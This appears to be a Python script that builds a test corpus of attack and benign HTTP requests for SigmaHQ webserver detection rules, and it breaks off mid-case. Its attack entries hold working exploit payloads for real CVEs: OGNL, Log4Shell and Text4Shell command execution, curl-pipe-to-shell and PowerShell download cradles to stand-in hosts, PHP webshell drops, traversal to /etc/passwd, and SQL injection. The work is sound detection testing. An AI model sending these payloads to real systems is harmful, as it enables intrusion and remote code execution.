#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Build tests/sigmahq/requests.jsonl: one or more attack requests per SigmaHQ
webserver rule, plus benign requests from the same application area.

Every attack is written from the rule's title/description/references (the
advisory or public PoC) as the request a real exploit sends: raw method, raw
request target with the percent-encoding the tool really uses, the headers
that tool sends and the status a real server plausibly answers.  Rule values
are never pasted in; where a request matches a rule value literally it is
because the exploit sends exactly that.

Run:  python3 tests/sigmahq/build_requests.py   (rewrites requests.jsonl)
The JSONL is committed; this script is its readable source (one comment per
case says where the request comes from).

Ids: "<rule-file-stem>-attack-N" expects that rule (plus any rule listed in
`also`, i.e. other SigmaHQ rules the same real request legitimately hits);
"<rule-file-stem>-benign-N" expects no alert from any of the 88 rules.
"""
import datetime
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
SHARED = os.environ.get("IW_SHARED", os.path.join(REPO, "..", "shared"))
SIGMAHQ = os.path.join(SHARED, "sigma", "sigmahq-rules")

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
          "(KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")
FIREFOX = ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 "
           "Firefox/128.0")
PYREQ = "python-requests/2.31.0"
CURL = "curl/8.5.0"


def stem_of(path):
    name = os.path.basename(path)
    while name.endswith(".yml"):
        name = name[:-4]
    return name


def rule_ids():
    """rule file stem -> Sigma id, for every rule outside unsupported/."""
    out = {}
    for top in ("rules", "rules-emerging-threats"):
        for d, _, files in os.walk(os.path.join(SIGMAHQ, top)):
            for f in files:
                if not f.endswith(".yml"):
                    continue
                with open(os.path.join(d, f), encoding="utf-8") as fh:
                    m = re.search(r"^id:\s*(\S+)", fh.read(), re.M)
                out[stem_of(f)] = m.group(1)
    return out


CASES = []


def _hdrs(host, ua, extra, browser):
    h = {"Host": host}
    if ua is not None:
        h["User-Agent"] = ua
    if browser:
        h["Accept"] = ("text/html,application/xhtml+xml,application/xml;"
                       "q=0.9,*/*;q=0.8")
        h["Accept-Language"] = "en-US,en;q=0.9"
        h["Accept-Encoding"] = "gzip, deflate, br"
    else:
        h["Accept"] = "*/*"
        h["Accept-Encoding"] = "gzip, deflate"
    h.update(extra or {})
    return h


def A(stem, method, uri, status, host="target.example", ua=PYREQ,
      headers=None, also=(), note="", browser=False, gap=None):
    """An attack: expects rule `stem` (and `also`) to fire.  `gap` marks a
    faithful exploit request the SigmaHQ rule misses as written (reported,
    tested as an expected failure)."""
    CASES.append(dict(stem=stem, kind="attack", method=method, uri=uri,
                      status=status, headers=_hdrs(host, ua, headers, browser),
                      also=list(also), note=note, gap=gap))


def B(stem, method, uri, status, host="target.example", ua=CHROME,
      headers=None, note="", browser=True):
    """A benign request from the same application area: no rule may fire."""
    CASES.append(dict(stem=stem, kind="benign", method=method, uri=uri,
                      status=status, headers=_hdrs(host, ua, headers, browser),
                      also=[], note=note, gap=None))


# ---------------------------------------------------------------- generic --
S = "web_f5_tm_utility_bash_api_request"
# CVE-2022-1388 style abuse of iControl REST: hop-by-hop header strips the
# token check, then util/bash runs a command (F5 SDK util.bash endpoint).
A(S, "POST", "/mgmt/tm/util/bash", 200, host="bigip.example", ua=CURL,
  headers={"Authorization": "Basic YWRtaW46",
           "Connection": "keep-alive, X-F5-Auth-Token",
           "X-F5-Auth-Token": "a", "Content-Type": "application/json"},
  note="iControl REST util/bash command run (CVE-2022-1388 bypass headers)")
B(S, "GET", "/mgmt/tm/sys/version", 200, host="bigip.example", ua=CURL,
  headers={"X-F5-Auth-Token": "QVZPTEkxMjM0NTY3ODkw"}, browser=False,
  note="admin reads the version through iControl REST")

S = "web_iis_tilt_shortname_scan"
# IIS tilde enumeration (lijiejie/IIS_shortname_Scanner, nuclei iis-shortname):
# wildcard prefix + ~1 + /a.aspx; OPTIONS and GET variants.
A(S, "OPTIONS", "/W*~1*/a.aspx", 200, host="iis.example", ua=FIREFOX,
  note="tilde short-name probe, OPTIONS variant, server answers 200")
A(S, "GET", "/ASPNET*~1*/a.aspx", 301, host="iis.example", ua=FIREFOX,
  note="tilde short-name probe, GET variant, 301")
B(S, "GET", "/default.aspx", 200, host="iis.example")

S = "web_java_payload_in_access_logs"
# CVE-2022-26134 Confluence OGNL in the URI path (Rapid7 / httpvoid PoC).
A(S, "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString"
  "%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29."
  "getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork."
  "ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22"
  "%2C%23a%29%29%7D/", 302, host="wiki.example",
  note="CVE-2022-26134 OGNL injection in the path")
# CVE-2022-42889 Text4Shell: script lookup in a query parameter.
A(S, "GET", "/search?query=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime."
  "getRuntime%28%29.exec%28%27touch%20%2Ftmp%2Fpwned%27%29%7D", 200,
  host="app.example", note="Text4Shell script: lookup")
B(S, "GET", "/pages/viewpage.action?pageId=1179650", 200, host="wiki.example")

S = "web_jndi_exploit"
# Log4Shell through JNDI-Exploit-Kit: the LDAP URL path selects the gadget.
A(S, "GET", "/", 200, host="app.example",
  ua="${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/"
     "Y3VybCAtcyAyMDMuMC4xMTMuNjYvYS5zaHxzaA==}",
  also=("web_cve_2021_44228_log4j", "web_cve_2021_44228_log4j_fields"),
  note="JNDIExploit Basic/Command/Base64 gadget in User-Agent")
A(S, "GET", "/api/v1/health", 200, host="app.example", ua=CURL,
  headers={"X-Api-Version":
           "${jndi:ldap://203.0.113.66:1389/TomcatBypass/Command/"
           "Base64/aWQ=}"},
  also=("web_cve_2021_44228_log4j",),
  note="JNDIExploit TomcatBypass gadget in X-Api-Version header")
B(S, "GET", "/api/v1/health", 200, host="app.example", browser=False)

S = "web_path_traversal_exploitation_attempt"
# Classic LFI through a file parameter (hacktricks file-inclusion).
A(S, "GET", "/index.php?page=../../../etc/passwd", 200, host="www.example",
  ua=CURL, note="LFI with literal ../ in the query")
A(S, "GET", "/download?file=..%252f..%252f..%252fetc%252fpasswd", 200,
  host="www.example", note="double-encoded traversal (WAF bypass)")
A(S, "GET", "/static/..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", 200,
  host="www.example", note="overlong UTF-8 slash traversal")
B(S, "GET", "/index.php?page=about", 200, host="www.example")

S = "web_source_code_enumeration"
# Exposed .git folder download (pentester.land writeup).
A(S, "GET", "/.git/config", 200, host="www.example", ua=CURL,
  note="git-dumper style fetch of .git/config")
A(S, "GET", "/.git/HEAD", 200, host="www.example", note=".git/HEAD probe")
B(S, "GET", "/assets/app.js", 200, host="www.example",
  headers={"Referer": "https://www.example/about.html"})

S = "web_sql_injection_in_access_logs"
# sqlmap UNION technique (payloadbox list): encoded spaces, 0x markers.
A(S, "GET", "/products.php?id=-4921%20UNION%20ALL%20SELECT%20NULL,CONCAT"
  "(0x71786b7a71,IFNULL(CAST(version()%20AS%20NCHAR),0x20),0x716a767671),"
  "NULL--%20-", 200, host="shop.example", ua=FIREFOX,
  note="UNION ALL SELECT with CONCAT(0x..) markers")
# error-based extraction of @@version (hacktricks mysql-injection)
A(S, "GET", "/item.php?id=1%20and%20extractvalue(1,concat(0x7e,(select%20"
  "@@version)))", 200, host="shop.example", ua=FIREFOX,
  note="error-based @@version extraction")
B(S, "GET", "/products.php?id=42&sort=price", 200, host="shop.example")
B(S, "GET", "/products.php?id=-4921%20UNION%20ALL%20SELECT%20NULL,CONCAT"
  "(0x71786b7a71,0x20,0x716a767671),NULL--%20-", 404, host="shop.example",
  ua=FIREFOX, note="same injection answered 404: rule filters sc-status 404")

S = "web_ssti_in_access_logs"
# SSTI probes (hacktricks/payloadbox): Jinja {{7*7}} as a browser encodes it
A(S, "GET", "/hello?name=%7B%7B7*7%7D%7D", 200, host="app.example",
  ua=FIREFOX, note="Jinja2 {{7*7}} probe, percent-encoded braces")
# FreeMarker Execute gadget
A(S, "GET", "/preview?tpl=%3C%23assign%20ex%3D%22freemarker.template.utility"
  ".Execute%22%3Fnew()%3E%24%7Bex(%22id%22)%7D", 200, host="app.example",
  note="FreeMarker Execute RCE")
B(S, "GET", "/hello?name=alice", 200, host="app.example")
B(S, "GET", "/hello?name=%7B%7B7*7%7D%7D", 404, host="app.example",
  note="probe answered 404: rule filters sc-status 404")

S = "web_susp_useragents"
A(S, "GET", "/wp-login.php", 200, host="blog.example",
  ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
  note="WPScan default UA")
A(S, "GET", "/cgi-bin/test-cgi", 404, host="www.example",
  ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000121)",
  note="Nikto default UA")
A(S, "GET", "/products.php?id=42", 200, host="shop.example",
  ua="sqlmap/1.8.4#stable (https://sqlmap.org)", note="sqlmap default UA")
A(S, "GET", "/admin", 404, host="www.example", ua="gobuster/3.6",
  note="gobuster dir brute force")
B(S, "GET", "/wp-login.php", 200, host="blog.example")

S = "web_susp_windows_path_uri"
# webshell/exfil browsing Windows folders (DFIR report msiexec case)
A(S, "GET", "/uploads/files.aspx?dir=C%3A%5CUsers%5CAdministrator%5CDesktop",
  200, host="iis.example", ua=FIREFOX,
  note="webshell file browser on C:\\Users")
A(S, "GET", "/uploads/files.aspx?dir=C:/Windows/Temp", 200,
  host="iis.example", ua=FIREFOX, note="forward-slash Windows path")
B(S, "GET", "/uploads/files.aspx?dir=reports", 200, host="iis.example")

S = "web_webshell_regeorg"
# reGeorgSocksProxy.py (urllib3, no UA, no Referer) drives tunnel.jsp with
# ?cmd=connect&target=..&port=.., then cmd=read / cmd=forward.
A(S, "POST", "/upload/tunnel.jsp?cmd=connect&target=10.10.1.20&port=3389",
  200, host="app.example", ua=None, note="reGeorg CONNECT to RDP host")
A(S, "POST", "/upload/tunnel.jsp?cmd=read", 200, host="app.example", ua=None,
  note="reGeorg READ")
B(S, "GET", "/upload/index.jsp", 200, host="app.example")
B(S, "POST", "/console/run?cmd=connect", 200, host="app.example",
  headers={"Referer": "https://app.example/console/"},
  note="browser app using cmd=connect: has UA and Referer, filter fails")

S = "web_win_webshells_in_access_logs"
# Windows webshell commands in GET params (bad-jubies, m365internals)
A(S, "GET", "/aspnet_client/system_web/shell.aspx?cmd=whoami", 200,
  host="iis.example", ua=FIREFOX, note="whoami through webshell")
A(S, "GET", "/aspnet_client/system_web/shell.aspx?c=cmd%20/c%20ipconfig%20"
  "/all", 200, host="iis.example", ua=FIREFOX, note="cmd /c ipconfig")
A(S, "GET", "/images/x.aspx?exec=powershell+-enc+SQBFAFgA", 200,
  host="iis.example", ua=FIREFOX, note="powershell -enc, '+' for spaces")
B(S, "GET", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", 200,
  host="iis.example")

S = "web_xss_in_access_logs"
A(S, "GET", "/search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E", 200,
  host="www.example", ua=FIREFOX, note="reflected <script> probe")
A(S, "GET", "/profile?name=x%22%20onmouseover=%22alert(1)%22", 200,
  host="www.example", ua=FIREFOX, note="attribute-context event handler")
B(S, "GET", "/search?q=running+shoes", 200, host="www.example")
B(S, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 404,
  host="www.example", note="probe answered 404: rule filters sc-status 404")

# ------------------------------------------------------- emerging threats --
S = "web_cve_2010_5278_exploitation_attempt"
# nuclei CVE-2010-5278: MODx tvs.php class_key traversal with %00
A(S, "GET", "/manager/controllers/default/resource/tvs.php?class_key=../../"
  "../../../../../../../../windows/win.ini%00", 200, host="modx.example",
  ua=FIREFOX, also=("web_path_traversal_exploitation_attempt",),
  note="MODx class_key traversal to win.ini")
B(S, "GET", "/manager/?a=resource/update&id=12", 200, host="modx.example")

S = "web_cve_2014_6287_hfs_rce"
# exploit-db 39161 / Optimum writeup: %00 ends the regex, {.exec|..} macro
A(S, "GET", "/?search=%00{.exec|C%3A%5CWindows%5CSystem32%5CWindowsPowerShell"
  "%5Cv1.0%5Cpowershell.exe%20IEX(New-Object%20Net.WebClient).downloadString"
  "(%27http%3A%2F%2F203.0.113.5%2Fshell.ps1%27).}", 200, host="hfs.example",
  ua=FIREFOX, note="HFS macro exec of powershell download cradle")
A(S, "GET", "/?search=%00{.+save|C:\\Users\\Public\\script.vbs|dim%20xHttp%3A"
  "%20Set%20xHttp%20%3D%20createobject(%22Microsoft.XMLHTTP%22).}", 200,
  host="hfs.example", ua="Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
  note="exploit-db 39161 save| macro writing a VBS (raw backslashes)")
B(S, "GET", "/?search=report.pdf", 200, host="hfs.example")

S = "web_cve_2018_13379_fortinet_preauth_read_exploit"
# devco.re: fgt_lang lang= traversal to the sslvpn session file
A(S, "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/"
  "sslvpn_websession", 200, host="vpn.example", ua=PYREQ,
  note="FortiOS fgt_lang session file read")
B(S, "GET", "/remote/login?lang=en", 200, host="vpn.example")

S = "web_cve_2018_2894_weblogic_exploit"
# LandGrey PoC: shell uploaded via ws_utc keystore, served from css/config/
A(S, "GET", "/ws_utc/css/config/keystore/1532328546953_shell.jsp?password="
  "secfree&command=whoami", 200, host="weblogic.example", ua=PYREQ,
  also=("web_win_webshells_in_access_logs",), note="access to the JSP dropped in the keystore folder")
B(S, "GET", "/ws_utc/config.do", 200, host="weblogic.example")

S = "web_cve_2019_11510_pulsesecure_exploit"
# exploit-db 47297: guacamole path trick to read the session cache
A(S, "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../../data/"
  "runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/", 200,
  host="vpn.example", ua=CURL, note="Pulse arbitrary file read of data.mdb")
B(S, "GET", "/dana-na/auth/url_default/welcome.cgi", 200, host="vpn.example")

S = "web_cve_2019_19781_citrix_exploit"
# CTX267027 / mpgn: traversal to smb.conf, then newbm.pl template write
A(S, "GET", "/vpn/../vpns/cfg/smb.conf", 200, host="gw.example", ua=CURL,
  note="Citrix traversal read of smb.conf")
A(S, "POST", "/vpn/../vpns/portal/scripts/newbm.pl", 200, host="gw.example",
  ua=CURL, headers={"NSC_USER": "../../../netscaler/portal/templates/x7Qa",
                    "NSC_NONCE": "nsroot",
                    "Content-Type": "application/x-www-form-urlencoded"},
  note="newbm.pl bookmark write (template injection stage 1)")
B(S, "GET", "/vpn/index.html", 200, host="gw.example")

S = "web_cve_2019_3398_confluence"
# F5 write-up: drag-and-drop upload with traversal in filename
A(S, "POST", "/plugins/drag-and-drop/upload.action?pageId=65538&filename=../.."
  "/../../../../opt/atlassian/confluence/confluence/pages/shell.jsp&size=8&"
  "mimeType=text%2Fplain&atl_token=6b2a1f0e", 200, host="wiki.example",
  ua=PYREQ, note="traversal in attachment filename")
B(S, "POST", "/plugins/drag-and-drop/upload.action?pageId=65538&filename="
  "report.pdf&size=10240&mimeType=application%2Fpdf&atl_token=6b2a1f0e", 200,
  host="wiki.example")

S = "web_cve_2020_0688_exchange_exploit"
# Ridter/cve-2020-0688: ysoserial ViewState with the static validationKey
A(S, "GET", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE="
  "%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs"
  "LkVkaXRvciwgVmVyc2lvbj0zLjAuMC4wLCBDdWx0dXJlPW5ldXRyYWw%3D", 500,
  host="mail.example", ua=PYREQ,
  headers={"Cookie": "ASP.NET_SessionId=0f1e2d3c; msExchEcpCanary=abc"},
  also=("web_cve_2020_0688_msexchange",),
  note="malicious ViewState to /ecp/default.aspx")
B(S, "GET", "/ecp/default.aspx", 200, host="mail.example")

S = "web_cve_2020_0688_msexchange"
# trustedsec: any ECP page accepts the forged __VIEWSTATE
A(S, "GET", "/ecp/PersonalSettings/HomePage.aspx?showhelp=false&"
  "__VIEWSTATEGENERATOR=1D01FEB4&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAA",
  500, host="mail.example", ua=PYREQ, note="forged ViewState, other ECP page")
B(S, "GET", "/owa/", 200, host="mail.example")

S = "web_cve_2020_10148_solarwinds_exploit"
# CERT VU#843464: appending i18n.ashx skips API authentication
A(S, "GET", "/SolarWinds/InformationService/v3/Json/Query/i18n.ashx?query="
  "SELECT+AccountID,PasswordHash+FROM+Orion.Accounts", 200,
  host="orion.example", ua=PYREQ, note="SWIS query with i18n.ashx bypass")
A(S, "GET", "/api/Node/WebResource.axd?id=1", 200, host="orion.example",
  ua=PYREQ, note="WebResource.axd bypass on /api/")
B(S, "GET", "/Orion/WebResource.axd?d=xK3a9&t=637212", 200,
  host="orion.example")
B(S, "GET", "/Orion/js.i18n.ashx?l=en-US&v=43005.56.1", 200,
  host="orion.example")

S = "web_cve_2020_14882_weblogic_exploit"
# jas502n / SANS: double-encoded ../ to console.portal, mvel2 ShellSession
A(S, "GET", "/console/images/%252E%252E%252Fconsole.portal?_nfpb=true&"
  "_pageLabel=HomePage1&handle=com.tangosol.coherence.mvel2.sh.ShellSession("
  "%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)", 200,
  host="weblogic.example", ua=PYREQ,
  also=("web_java_payload_in_access_logs",),
  note="CVE-2020-14882 + ShellSession command")
# CVE-2020-14750 follow-up: single-encoded via /css/
A(S, "GET", "/console/css/%2e%2e%2fconsole.portal", 200,
  host="weblogic.example", ua=PYREQ, note="patch bypass via /console/css/")
B(S, "GET", "/console/login/LoginForm.jsp", 200, host="weblogic.example")

S = "web_cve_2020_28188_terramaster_rce_exploit"
# ihteam advisory / FreakOut: Event= command injection writing a PHP shell
A(S, "GET", "/include/makecvs.php?Event=http|echo%20%22%3C?php%20system($_GET"
  "[%27cmd%27]);%20?%3E%22%20%3E%3E%20/usr/www/a.php%20%26%26%20chmod%20755"
  "%20/usr/www/a.php||", 200, host="nas.example", ua=PYREQ,
  note="makecvs.php Event= injection dropping a.php")
B(S, "GET", "/tos/index.php?user/login", 200, host="nas.example")

S = "web_cve_2020_3452_cisco_asa_ftd"
# aboul3la PoC: translation-table with textdomain= traversal
A(S, "GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/"
  "portal_inc.lua&default-language&lang=../", 200, host="asa.example",
  ua=CURL, note="read portal_inc.lua through translation-table")
A(S, "GET", "/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=.."
  "&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua", 200,
  host="asa.example", ua=CURL, note="oem-customization name= variant")
B(S, "GET", "/+CSCOE+/logon.html", 200, host="asa.example")

S = "web_cve_2020_5902_f5_bigip"
# PT advisory: ..;/ escapes the TMUI auth check
A(S, "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?"
  "fileName=/etc/passwd", 200, host="bigip.example", ua=CURL,
  note="fileRead.jsp via ..;/")
A(S, "POST", "/tmui/login.jsp/..;/hsqldb%0a", 200, host="bigip.example",
  ua=PYREQ, note="hsqldb RCE variant")
B(S, "GET", "/tmui/login.jsp", 200, host="bigip.example")

S = "web_cve_2020_8193_8195_citrix_exploit"
# dmaasland / NCC: rapi file download after session fixation
A(S, "GET", "/rapi/filedownload?filter=path:%2Fetc%2Fpasswd", 406,
  host="adc.example", ua=PYREQ,
  headers={"Cookie": "SESSID=5d3c1a2b", "Rand_key": "1592818934.52"},
  note="arbitrary file download via rapi")
A(S, "GET", "/pcidss/report?type=all_signatures&sid=254&username=nsroot&"
  "profile=ssl&sig_name=_default_signature_&sig_start_no=1", 200,
  host="adc.example", ua=PYREQ, note="pcidss report abuse (CVE-2020-8195)")
B(S, "GET", "/menu/neo", 200, host="adc.example")

S = "web_solarwinds_supernova_webshell"
# GuidePoint: logoimagehandler.ashx compiles clazz/method/args sent to it
A(S, "GET", "/Orion/LogoImageHandler.ashx?codes=System.Diagnostics&clazz="
  "ProcessStartInfo&method=Start&args=whoami", 200, host="orion.example",
  ua=PYREQ, also=("web_win_webshells_in_access_logs",),
  note="SUPERNOVA in-memory .NET execution")
A(S, "POST", "/Orion/LogoImageHandler.ashx?id=1", 500, host="orion.example",
  ua=PYREQ, note="SUPERNOVA compile error answered 500")
B(S, "GET", "/Orion/LogoImageHandler.ashx?id=SiteLoginLogo&time=1607000000",
  200, host="orion.example")

S = "web_cve_2021_20090_2021_20091_arcadyan_router_exploit"
# Tenable TRA-2021-13: ..%2f after an unauthenticated prefix
A(S, "GET", "/images/..%2finfo.html", 200, host="192.168.1.1", ua=CURL,
  note="auth bypass to info.html")
# Juniper in-the-wild: apply_abstract.cgi config injection (telnetd)
A(S, "POST", "/images/..%2fapply_abstract.cgi", 200, host="192.168.1.1",
  ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="CVE-2021-20091 config injection")
B(S, "GET", "/login.html", 200, host="192.168.1.1")

S = "web_cve_2021_2109_weblogic_rce_exploit"
# pyn3rd: JndiBindingHandle with ldap URL (last dot as ';'), AdminServer
A(S, "GET", "/console/css/%252e%252e%252fconsole.portal?_pageLabel="
  "JNDIBindingPageGeneral&_nfpb=true&JNDIBindingPortlethandle=com.bea.console."
  "handles.JndiBindingHandle(%22ldap://203.0.113;7:1389/Basic/WeblogicEcho;"
  "AdminServer%22)", 200, host="weblogic.example", ua=PYREQ,
  note="JNDI injection through JndiBindingHandle")
B(S, "GET", "/console/dashboard", 200, host="weblogic.example")

S = "web_cve_2021_21972_vsphere_unauth_rce_exploit"
# PT Swarm: unauthenticated OVA (tar) upload to the vROps plugin
A(S, "POST", "/ui/vropspluginui/rest/services/uploadova", 200,
  host="vcenter.example", ua=PYREQ,
  headers={"Content-Type": "multipart/form-data; boundary=3b1f2c"},
  note="tar upload with traversal entries")
B(S, "GET", "/ui/", 200, host="vcenter.example")

S = "web_cve_2021_21978_vmware_view_planner_exploit"
# nuclei CVE-2021-21978 / PT Swarm: logMetaData sends the upload over the
# WSGI handler /etc/httpd/html/wsgi_log_upload/log_upload_wsgi.py.  The rule
# asks for 'wsgi_log_upload.py', a name the real exploit never sends (it
# sends the directory wsgi_log_upload and the file log_upload_wsgi.py).
A(S, "POST", "/logupload?logMetaData=%7B%22itrLogPath%22%3A%20%22..%2F..%2F..%2F"
  "..%2F..%2F..%2Fetc%2Fhttpd%2Fhtml%2Fwsgi_log_upload%22%2C%20%22logFileType"
  "%22%3A%20%22log_upload_wsgi.py%22%2C%20%22workloadID%22%3A%20%222%22%7D",
  200, host="planner.example", ua=PYREQ,
  headers={"Content-Type": "multipart/form-data; boundary=----WebKitForm"
                           "BoundarySHHbUsfCoxlX1bpS",
           "Referer": "https://planner.example"},
  gap="SigmaHQ rule value 'wsgi_log_upload.py' does not occur in the public "
      "PoC (it sends dir 'wsgi_log_upload' + file 'log_upload_wsgi.py')",
  note="public PoC: overwrite of the WSGI log-upload handler")
# Same arbitrary-file-write bug used to drop a script named after the rule's
# value into the web root (curl, JSON not encoded).
A(S, "POST", "/logupload?logMetaData={%22itrLogPath%22:%22../../../../../../etc"
  "/httpd/html%22,%22logFileType%22:%22wsgi_log_upload.py%22,%22workloadID%22"
  ":%222%22}", 200, host="planner.example", ua=CURL,
  headers={"Content-Type": "multipart/form-data; boundary=5c2b"},
  also=("web_path_traversal_exploitation_attempt",),
  note="variant: file named wsgi_log_upload.py written to the web root")
B(S, "GET", "/vp-ui/", 200, host="planner.example")

S = "web_cve_2021_22005_vmware_file_upload"
# Tenable / wvu PoC: CEIP hyper/send with _i= path traversal, answers 201
A(S, "POST", "/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../"
  "../etc/cron.d/x4yz", 201, host="vcenter.example", ua=PYREQ,
  headers={"Content-Type": "application/json"},
  also=("web_path_traversal_exploitation_attempt",),
  note="telemetry upload written to cron.d")
B(S, "GET", "/analytics/telemetry/ph/api/level?_c=vSphere.vapi.6_7", 200,
  host="vcenter.example", browser=False)

S = "web_cve_2021_22123_fortinet_exploit"
# Rapid7: command injection in the SAML server name; Referer is not the UI
A(S, "POST", "/api/v2.0/user/remoteserver.saml", 500, host="fortiweb.example",
  ua=PYREQ, headers={"Referer": "https://fortiweb.example/",
                     "Content-Type": "multipart/form-data; boundary=9a8b"},
  note="remoteserver.saml injection from outside the UI page")
B(S, "POST", "/api/v2.0/user/remoteserver.saml", 200, host="fortiweb.example",
  headers={"Referer": "https://fortiweb.example/root/user/remote-user/"
                      "saml-user/"},
  note="admin saves a SAML server from the UI page (filtered Referer)")

S = "web_cve_2021_22893_pulse_secure_rce_exploit"
# FireEye SA44784: exploited endpoints under dana-ws / dana-na
A(S, "GET", "/dana-ws/namedusers", 200, host="vpn.example", ua=PYREQ,
  note="namedusers endpoint")
A(S, "GET", "/dana-na/auth/saml-logout.cgi?token=%27%3B%20id%3B%20%27", 200,
  host="vpn.example", ua=PYREQ, note="token= injection")
B(S, "GET", "/dana-na/auth/url_default/welcome.cgi", 200, host="vpn.example")

S = "web_cve_2021_26814_wzuh_rce"
# WickdDavid PoC: PUT a file with path=etc/lists/../../.. traversal
A(S, "PUT", "/manager/files?path=etc/lists/../../../../..//var/ossec/"
  "integrations/custom-x.py&overwrite=true", 200, host="wazuh.example:55000",
  ua=PYREQ, headers={"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x",
                     "Content-Type": "application/octet-stream"},
  note="Wazuh API file upload outside etc/lists")
B(S, "GET", "/manager/files?path=etc/lists/audit-keys", 200,
  host="wazuh.example:55000", browser=False)

S = "web_cve_2021_27905_apache_solr_exploit"
# murataydemir: replication fetchindex with attacker masterUrl (SSRF)
A(S, "GET", "/solr/db/replication?command=fetchindex&masterUrl=http://"
  "203.0.113.9:8983/solr/db&wt=json", 200, host="solr.example:8983", ua=CURL,
  note="SSRF through masterUrl")
# nsfocus: debug/dump with remote streaming (file read)
A(S, "GET", "/solr/db/debug/dump?param=ContentStreams&stream.url=file:///etc/"
  "passwd", 200, host="solr.example:8983", ua=CURL,
  note="stream.url file read")
B(S, "GET", "/solr/db/select?q=*:*&wt=json", 200, host="solr.example:8983")

S = "web_cve_2021_28480_exchange_exploit"
# GossiTheDog (the only public detail): POSTs to the anonymous published-
# calendar handler; the path shape after /owa/calendar/ is our assumption
A(S, "POST", "/owa/calendar/a@contoso.com/8b2c4d/calendar.html", 200,
  host="mail.example", ua=PYREQ,
  note="POST to the anonymous calendar handler (path shape assumed)")
B(S, "GET", "/owa/calendar/jdoe@contoso.com/8b2c4d/calendar.html", 200,
  host="mail.example")
B(S, "POST", "/owa/calendar/a@contoso.com/8b2c4d/calendar.html", 503,
  host="mail.example", ua=PYREQ, browser=False,
  note="same POST answered 503: rule filters 503")

S = "web_cve_2021_33766_msexchange_proxytoken"
# ZDI ProxyToken: SecurityToken cookie, NewObject inbox rule, first 500
A(S, "POST", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject",
  500, host="mail.example", ua=FIREFOX,
  headers={"Cookie": "SecurityToken=x",
           "Content-Type": "application/json; charset=utf-8"},
  note="forwarding rule creation with SecurityToken=x")
B(S, "GET", "/ecp/?ExchClientVer=15", 200, host="mail.example")

S = "web_cve_2021_40539_adselfservice"
# CISA AA21-259A: ReportGenerate.jsp webshell and /./ bypass paths
A(S, "GET", "/help/admin-guide/Reports/ReportGenerate.jsp?c=whoami", 200,
  host="adss.example:9251", ua=PYREQ,
  also=("web_cve_2021_40539_manageengine_adselfservice_exploit",
        "web_win_webshells_in_access_logs"),
  note="access to the dropped ReportGenerate.jsp webshell")
A(S, "POST", "/ServletApi/../RestApi/LogonCustomization", 200,
  host="adss.example:9251", ua=PYREQ,
  headers={"Content-Type": "multipart/form-data; boundary=f00"},
  also=("web_cve_2021_40539_manageengine_adselfservice_exploit",),
  note="REST auth bypass via ServletApi/..")
B(S, "GET", "/showLogin.cc", 200, host="adss.example:9251")

S = "web_cve_2021_40539_manageengine_adselfservice_exploit"
A(S, "POST", "/./RestAPI/LogonCustomization", 200, host="adss.example:9251",
  ua=PYREQ, headers={"Content-Type": "multipart/form-data; boundary=f00"},
  note="REST auth bypass via /./ (service.cer upload)")
A(S, "POST", "/./RestAPI/Connection", 200, host="adss.example:9251",
  ua=PYREQ, headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="Connection API abuse (keytool command injection)")
B(S, "POST", "/j_security_check", 302, host="adss.example:9251")

S = "web_cve_2021_41773_apache_path_traversal"
# CVE-2021-41773 (2.4.49): .%2e traversal; CVE-2021-42013 (2.4.50) %%32%65
A(S, "GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 200,
  host="www.example", ua=CURL, note="file read via /icons/")
A(S, "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 200, host="www.example",
  ua=CURL, headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="RCE through mod_cgi (body 'echo;id')")
A(S, "GET", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd", 200,
  host="www.example", ua=CURL, note="CVE-2021-42013 double-encoded dot")
B(S, "GET", "/icons/apache_pb.gif", 200, host="www.example")
B(S, "GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 403,
  host="www.example", ua=CURL, browser=False,
  note="patched server answers 403: rule requires 200/301")

S = "web_cve_2021_42237_sitecore_report_ashx"
# Assetnote: deserialisation in Report.ashx, XML body
